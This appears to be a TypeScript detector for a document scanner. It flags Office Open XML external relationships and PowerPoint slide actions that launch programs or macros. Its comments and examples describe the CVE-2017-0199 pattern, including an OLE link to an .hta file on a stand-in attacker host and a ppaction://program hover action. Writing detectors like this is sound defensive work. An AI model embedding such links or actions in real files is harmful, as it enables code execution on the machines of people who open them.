import { XML_PREFIX, xmlAttributes, xmlText } from './xml-document.js';

// An Office Open XML document's relationships (`_rels/*.rels`) may name parts outside it (`TargetMode="External"`),
// which Word fetches as the document opens: an OLE object linked to `http://host/run.hta` (the CVE-2017-0199
// shape), a template, a frame. Hyperlinks are left out: a reader follows one only by clicking it, as in a body.
// A tag's attributes end at the next `>` outside quotes (an attribute value may hold `>`, not `<`): each character
// is read once, however the tags are cut.
const RELATIONSHIP = new RegExp(`<${XML_PREFIX}Relationship\\b((?:[^<>"']|"[^<"]*"|'[^<']*')*)`, 'gi');

/** An external relationship's target, and whether Word fetches it as a picture (drawn, never run). */
export interface ExternalTarget {
  target: string;
  picture: boolean;
}

/**
 * The targets of a relationships part's external relationships other than hyperlinks. Linear in its size.
 *
 * @example
 * ```ts
 * externalTargets(Buffer.from('<Relationship Type="…/oleObject" Target="http://evil.example/x.hta" TargetMode="External"/>'));
 * // [{ target: 'http://evil.example/x.hta', picture: false }]
 * ```
 */
export function externalTargets(rels: Buffer): ExternalTarget[] {
  const xml = xmlText(rels);
  if (!/external/i.test(xml) && !xml.includes('&')) return [];
  const targets: ExternalTarget[] = [];
  for (const m of xml.matchAll(RELATIONSHIP)) {
    const attributes = xmlAttributes(m[1] as string);
    if (attributes.get('targetmode')?.toLowerCase() !== 'external') continue;
    const type = attributes.get('type') ?? '';
    if (/\/hyperlink$/i.test(type)) continue;
    const target = attributes.get('target');
    if (target) targets.push({ target, picture: /\/image$/i.test(type) });
  }
  return targets;
}

// PowerPoint's action settings: a shape's hyperlink (`a:hlinkClick`, or `a:hlinkHover`, which fires on mouse-over
// without a click) whose `action` is `ppaction://program` runs the relationship's target as a program, and
// `ppaction://macro` runs a macro (attacker round 52).
const SLIDE_ACTION = new RegExp(
  `<${XML_PREFIX}hlink(?:Click|Hover)\\b((?:[^<>"']|"[^<"]*"|'[^<']*')*)`,
  'gi',
);

/**
 * Whether a slide part holds an action that runs a program or a macro, whatever it runs. Linear in its size.
 *
 * @example
 * ```ts
 * runsSlideProgram('<a:hlinkHover r:id="rId2" action="ppaction://program"/>'); // true
 * ```
 */
export function runsSlideProgram(markup: string): boolean {
  if (!/ppaction|&/i.test(markup)) return false;
  for (const m of markup.matchAll(SLIDE_ACTION)) {
    const action = xmlAttributes(m[1] as string).get('action') ?? '';
    if (/^ppaction:\/\/(?:program|macro)\b/i.test(action)) return true;
  }
  return false;
}
